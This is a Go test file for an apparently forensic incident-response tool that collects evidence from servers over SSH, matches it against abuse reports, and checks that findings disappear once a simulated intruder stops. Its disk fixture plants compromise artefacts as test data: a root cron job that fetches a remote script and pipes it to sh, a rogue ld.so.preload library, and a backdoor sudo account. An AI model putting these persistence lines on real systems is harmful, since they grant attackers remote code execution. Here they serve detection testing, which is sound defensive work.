package app

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"latchkey/app/casefile"
	"latchkey/diag"
	"latchkey/diag/checklist"
	"latchkey/diag/evidence"
	sshd "latchkey/diag/evidence/lab"
)

// hurried has every login run with little time: what takes long on a large
// machine says nothing here.
func hurried(o sshd.Options) sshd.Options {
	if o.Files == nil {
		o.Files = map[string]string{}
	}
	o.Files["/etc/lab/shell"] = "LATCHKEY_LIMIT=6; export LATCHKEY_LIMIT; exec sh -c \"$SSH_ORIGINAL_COMMAND\"\n"
	o.Config = append(o.Config, "ForceCommand sh /etc/lab/shell")
	return o
}

// served starts a server and gives options that reach it.
func served(t *testing.T, o sshd.Options) (*sshd.Server, CollectOptions, string) {
	t.Helper()
	key, line := sshd.Key(t, "")
	o.Keys = append(o.Keys, line)
	s := sshd.Start(t, o)
	t.Setenv("SSH_AUTH_SOCK", "")
	t.Setenv("HOME", t.TempDir())
	return s, CollectOptions{
		Host: evidence.Host{User: sshd.Root, Name: s.Address, Port: s.Port}, Identities: []string{key}, Confirmed: []string{s.HostKey("ed25519")},
	}, key
}

// The laboratory's incident, collected over SSH and laid beside a report made
// for it.
func TestCollectIncident(t *testing.T) {
	if testing.Short() {
		t.Skip("looks at the whole machine for some seconds")
	}
	server, o, _ := served(t, hurried(sshd.Options{}))
	var targets []string
	report := "TIME (UTC)           SRC        SRC-PORT -> DST          DST-PORT SIZE PROT\n"
	const port = 23 // telnet: what worms knock at
	for i := range 40 {
		targets = append(targets, fmt.Sprintf("127.66.0.%d", i+1))
		at := time.Now().UTC().Add(time.Duration(i-40) * time.Second).Format(time.DateTime)
		report += fmt.Sprintf("%s  127.0.0.1 %5d ->    %s %5d   74 TCP\n", at, 1+i, targets[i], port)
	}
	pid, stop := sshd.Intruder(t, targets, port)
	s := open(t, nil)
	c := s.NewCase(CaseOptions{})
	var stages []CollectStage
	var last CollectProgress
	got, err := s.Collect(t.Context(), o, c.Keep, func(p CollectProgress) {
		if last = p; len(stages) == 0 || stages[len(stages)-1] != p.Stage {
			stages = append(stages, p.Stage)
		}
	})
	if err != nil || !got.Run.Complete || got.Input.Kind != KindBundle || got.Fingerprint != server.HostKey("ed25519") || len(got.Bundle.Sections) != last.Total {
		t.Fatalf("%+v %+v: %d sections of %d, %v", got.Run, got.Input, len(got.Bundle.Sections), last.Total, err)
	}
	if !slices.Equal(stages, []CollectStage{CollectConnecting, CollectRunning, CollectReading}) {
		t.Errorf("stages %v", stages)
	}
	c.Change(func(m *casefile.Case) { s.FileCollected(m, got, time.Now()) })
	if m := c.Model(); len(m.Evidence) != 1 || m.Timeline[len(m.Timeline)-1].Code != EventCollected {
		t.Errorf("%+v", m)
	}
	for _, rule := range []string{"P01", "P02", "N01"} {
		found := false
		for _, f := range got.Bundle.Findings {
			found = found || f.Rule == rule && f.Params["pid"] == pid
		}
		if !found {
			t.Errorf("%s does not name PID %d", rule, pid)
		}
	}
	path, err := c.Path(got.Input.SHA256)
	if err != nil {
		t.Fatal(err)
	}
	e, err := s.ReadEvidenceFile(t.Context(), path)
	if err != nil {
		t.Fatal(err)
	}
	r, err := s.Read(t.Context(), "report.txt", strings.NewReader(report), ReadOptions{})
	if err != nil || r.Kind != KindReport {
		t.Fatalf("%s %v", r.Kind, err)
	}
	m := s.Match(r.Report, []Evidence{e})
	if m.Grade != checklist.Proven || len(m.Processes) == 0 || m.Processes[0].PID != pid {
		t.Errorf("%s %+v", m.Grade, m.Processes)
	}
	// Gone: the same click again proves it.
	stop()
	again, err := s.Collect(t.Context(), o, c.Keep, nil)
	if err != nil {
		t.Fatal(err)
	}
	stored, err := c.Keep(strings.NewReader(report), "report.txt")
	if err != nil {
		t.Fatal(err)
	}
	c.Change(func(m *casefile.Case) {
		s.FileCollected(m, again, time.Now())
		stored.Kind = KindReport
		m.Reports = append(m.Reports, stored)
	})
	a, ok, err := s.CaseAftermath(t.Context(), c)
	if err != nil || !ok || a.Before != 40 || a.After != 0 || a.Looks != 1 || len(a.Facts) == 0 || a.Facts[0].Code != "evidence.quiet.since" {
		t.Errorf("%d before, %d after, %d looks, %+v, %v", a.Before, a.After, a.Looks, a.Facts, err)
	}
	for _, rule := range []string{"P01", "P02", "N01"} {
		if !slices.ContainsFunc(a.Gone, func(f diag.Finding) bool { return f.Rule == rule && f.Params["pid"] == pid }) {
			t.Errorf("%s is not gone", rule)
		}
	}
	if err := errors.Join(r.Close(), c.Close()); err != nil {
		t.Error(err)
	}
}

// disk is a mounted disk with something on it.
func disk() map[string]string {
	return map[string]string{
		"/mnt/etc/passwd": secondRoot, "/mnt/etc/group": "root:x:0:\nsudo:x:27:backup2\n", "/mnt/etc/hostname": "web1\n",
		"/mnt/etc/cron.d/update":     "*/5 * * * * root curl -fsSL http://192.0.2.7/i.sh | sh >/dev/null 2>&1\n",
		"/mnt/etc/ld.so.preload":     "/usr/local/lib/libx.so\n",
		"/mnt/var/lib/dpkg/status":   "",
		"/mnt/var/log/auth.log":      "Mar  4 05:06:07 web1 sshd[101]: Accepted password for backup2 from 198.51.100.7 port 40001 ssh2\n",
		"/mnt/root/.ssh/known_hosts": "x\n",
	}
}

// Collected by the program or by hand with ssh: the same sections, the same
// findings; and nothing of what runs in the rescue system among them.
func TestCollectEqualsByHand(t *testing.T) {
	if _, err := exec.LookPath("ssh"); err != nil {
		t.Skip("no ssh here")
	}
	server, o, key := served(t, sshd.Options{Files: disk()})
	s := open(t, nil)
	script, err := s.Collector()
	if err != nil {
		t.Fatal(err)
	}
	c := exec.CommandContext(t.Context(), "ssh", "-q", "-i", key, "-p", strconv.Itoa(server.Port), "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
		"-o", "IdentitiesOnly=yes", "root@"+server.Address, "LATCHKEY_ROOT=/mnt sh -s")
	c.Stdin = bytes.NewReader(script)
	out, err := c.Output()
	if err != nil {
		t.Fatal(err)
	}
	hand, err := s.ReadBundle(t.Context(), bytes.NewReader(out))
	if err != nil {
		t.Fatal(err)
	}
	o.Rescue = true
	got, err := s.Collect(t.Context(), o, s.NewCase(CaseOptions{}).Keep, nil)
	if err != nil {
		t.Fatal(err)
	}
	told := func(r BundleReading) (all []string) {
		for _, section := range r.Sections {
			all = append(all, fmt.Sprint(section.ID, section.Command, section.Reader, section.Exit))
		}
		for _, f := range r.Findings {
			all = append(all, fmt.Sprint(f.Code, f.Rule, f.Params, *f.Source))
		}
		return all
	}
	if a, b := told(hand), told(got.Bundle); !slices.Equal(a, b) || len(got.Bundle.Findings) < 4 {
		t.Errorf("by hand:\n%s\nby us:\n%s", strings.Join(a, "\n"), strings.Join(b, "\n"))
	}
	if got.Bundle.Mode != "rescue" || got.Bundle.Hostname != "web1" || len(got.Bundle.Host.Processes)+len(got.Bundle.Host.Sockets) > 0 {
		t.Errorf("%s of %s", got.Bundle.Mode, got.Bundle.Hostname)
	}
	if changes := server.Changes(); len(changes) > 0 {
		t.Errorf("written on the server: %v", changes)
	}
}

// Stopped in the middle: what came is in the case, marked.
func TestCollectStopped(t *testing.T) {
	_, o, _ := served(t, hurried(sshd.Options{}))
	s := open(t, nil)
	c := s.NewCase(CaseOptions{})
	ctx, cancel := context.WithCancel(t.Context())
	got, err := s.Collect(ctx, o, c.Keep, func(p CollectProgress) {
		if p.Done == 3 {
			cancel()
		}
	})
	if err != nil || got.Run.Complete || got.Bundle.Complete || len(got.Bundle.Sections) < 3 || got.Facts[0].Params["reason"] != "stopped" {
		t.Fatalf("%+v %+v %v", got.Run, got.Facts, err)
	}
	if path, err := c.Path(got.Input.SHA256); err != nil || path == "" {
		t.Error(err)
	}
	if err := c.Close(); err != nil {
		t.Error(err)
	}
}

// Nothing is made of a server that was not reached.
func TestCollectNothing(t *testing.T) {
	s := open(t, nil)
	o := CollectOptions{Host: evidence.Host{User: "root", Name: "127.0.0.1", Port: 1}}
	kept := false
	_, err := s.Collect(t.Context(), o, func(io.Reader, string) (casefile.Input, error) { kept = true; return casefile.Input{}, nil }, nil)
	if !errors.Is(err, ErrUnreachable) || kept {
		t.Errorf("kept %v, %v", kept, err)
	}
	f, err := s.Cases().Create(casefile.Server{Address: "127.0.0.1"}, time.Now())
	if err != nil {
		t.Fatal(err)
	}
	if _, err := s.CollectIntoCase(t.Context(), f.Case.ID, o, nil); !errors.Is(err, ErrCaseOpen) {
		t.Errorf("a case that is open: %v", err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
	if _, err := s.CollectIntoCase(t.Context(), f.Case.ID, o, nil); !errors.Is(err, ErrUnreachable) {
		t.Error(err)
	}
}

// What is shown beforehand is what runs.
func TestCollectorSections(t *testing.T) {
	s := open(t, nil)
	script, err := s.Collector()
	if err != nil {
		t.Fatal(err)
	}
	live, err := s.CollectorSections(false, false)
	runs := 0
	for line := range strings.Lines(string(script)) {
		if strings.HasPrefix(strings.TrimSpace(line), "run ") {
			runs++
		}
	}
	all, more := s.CollectorSections(false, true)
	compares := func(id string) func(CollectorSection) bool {
		return func(c CollectorSection) bool { return c.ID == id }
	}
	ways := len(slices.DeleteFunc(slices.Clone(all), func(c CollectorSection) bool { return c.ID != sectionPackages }))
	if err = errors.Join(err, more); err != nil || len(live)+ways != runs || len(all) != len(live) || runs < 60 {
		t.Errorf("%d of %d, with all packages %d, %v", len(live), runs, len(all), err)
	}
	if slices.ContainsFunc(live, compares(sectionPackages)) || !slices.ContainsFunc(live, compares(sectionTools)) || slices.ContainsFunc(all, compares(sectionTools)) || ways != 2 {
		t.Error("packages are compared in a way that was not asked for")
	}
	rescue, err := s.CollectorSections(true, false)
	if err != nil || len(rescue) < 30 || slices.ContainsFunc(rescue, func(c CollectorSection) bool { return c.Live || c.ID == "ss" }) {
		t.Errorf("%d in rescue, %v", len(rescue), err)
	}
	for _, c := range live {
		if c.Command == "" || c.Bytes == 0 || c.Time == 0 {
			t.Errorf("%+v", c)
		}
	}
}

// BenchmarkReadCollection reads a collection of this machine, made once.
func BenchmarkReadCollection(b *testing.B) {
	s, err := Open(Config{Home: b.TempDir(), Assets: os.DirFS("../assets")})
	if err != nil {
		b.Fatal(err)
	}
	script, err := s.Collector()
	if err != nil {
		b.Fatal(err)
	}
	c := exec.CommandContext(b.Context(), "sh", "-s")
	c.Stdin, c.Env = bytes.NewReader(script), append(os.Environ(), "LATCHKEY_LIMIT=10")
	out, err := c.Output()
	if err != nil {
		b.Fatal(err)
	}
	b.SetBytes(int64(len(out)))
	for b.Loop() {
		if r, err := s.ReadBundle(b.Context(), bytes.NewReader(out)); err != nil || len(r.Sections) < 60 {
			b.Fatal(len(r.Sections), err)
		}
	}
}
